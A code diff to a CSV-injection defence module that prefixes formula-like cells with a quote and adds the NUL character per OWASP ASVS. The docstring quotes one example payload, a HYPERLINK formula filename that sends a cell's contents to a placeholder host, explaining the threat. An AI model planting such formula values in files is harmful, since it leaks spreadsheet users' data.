@@ -1,12 +1,14 @@
 r"""CSV cells a spreadsheet would run as a formula, neutralised (CSV injection).
 
 A researcher opens spinecheck's tables in a spreadsheet. A text cell that begins with
-``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is read there as a formula,
+``=``, ``+``, ``-`` or ``@`` (or a tab, a carriage return or a NUL) is read there as a formula,
 and a file named ``=HYPERLINK("http://x/?"&A1,"click").png`` would then run in their
 spreadsheet. Every CSV spinecheck writes (the batch table, ``measure --format csv``, the
 follow-up series, the instability table, the wide landmark CSV) passes its cells through
 :func:`neutralise_cell`, which follows OWASP's rule: such a cell gets a leading single
-quote ``'``, which spreadsheets take as "this is text" and do not show.
+quote ``'``, which spreadsheets take as "this is text" and do not show. The characters are
+those of the OWASP CSV Injection page (``= + - @``, tab, carriage return) and of OWASP
+ASVS 5.0 requirement 1.2.10, which adds the NUL character.
 
 Numbers are left alone: a cell that is a plain decimal number (``-12.5``, ``+3``,
 ``-1.5e-07``) is data, not a formula, and a negative SVA must stay a number. So are cells
@@ -27,6 +29,8 @@ References
 ----------
 OWASP Foundation. CSV Injection. https://owasp.org/www-community/attacks/CSV_Injection
 
+OWASP Application Security Verification Standard 5.0, V1.2.10 (CSV and formula injection).
+
 Examples
 --------
 >>> neutralise_cell("=1+2"), neutralise_cell("-12.5"), neutralise_cell("-x.png")
@@ -46,7 +50,7 @@ from collections.abc import Iterable
 __all__ = ["FORMULA_STARTS", "neutralise_cell", "restore_cell", "csv_text"]
 
 #: The first characters that make a spreadsheet read a cell as a formula (OWASP, CSV Injection).
-FORMULA_STARTS = frozenset("=+-@\t\r")
+FORMULA_STARTS = frozenset("=+-@\t\r\0")
 
 # what stays as it is although it starts with a sign: a decimal number, or signs only (a grade)
 _DATA = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|[+-]+")
@@ -70,7 +74,7 @@ def neutralise_cell(text: str) -> str:
     -------
     str
         *text* with a leading ``'`` when it begins with ``=``, ``+``, ``-``,
-        ``@``, a tab or a carriage return and is neither a plain decimal number
+        ``@``, a tab, a carriage return or a NUL and is neither a plain decimal number
         nor signs only (``+``, ``++``: a grade), or
         when it begins with quotes before one of those (so that
         :func:`restore_cell` gives back exactly *text*); otherwise *text*.
